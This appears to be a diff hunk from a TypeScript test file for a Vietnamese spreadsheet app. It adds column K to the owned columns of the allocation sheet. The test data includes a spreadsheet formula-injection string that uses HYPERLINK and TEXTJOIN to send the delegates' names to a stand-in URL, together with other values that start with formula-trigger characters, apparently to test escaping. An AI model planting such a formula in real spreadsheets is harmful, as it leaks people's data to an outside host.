@@ -19,8 +19,8 @@ import { MESSAGES } from '../../src/ui/vi';
 const NOW = '2024-01-14T09:00:00+07:00';
 const ALLOCATION = 'Phân bổ';
 const WHAT = `trang "${ALLOCATION}"`;
-/** Computed columns of `Phân bổ` in the template (1-based): A–E, G–J (J: Cách tính). */
-const OWNED_COLUMNS = new Set([1, 2, 3, 4, 5, 7, 8, 9, 10]);
+/** Computed columns of `Phân bổ` in the template (1-based): A–E, G–K (J: Cách tính, K: Hình thức). */
+const OWNED_COLUMNS = new Set([1, 2, 3, 4, 5, 7, 8, 9, 10, 11]);
 const INJECTION = `=HYPERLINK("https://x/?"&TEXTJOIN(",",1,'Đại biểu'!B2:B400),"x")`;
 const ODD_NAMES = [INJECTION, '+84 Bản Mới', '-Xã Dưới', '@Xã Trên', '1/5', '1E5', '12:30'];
 
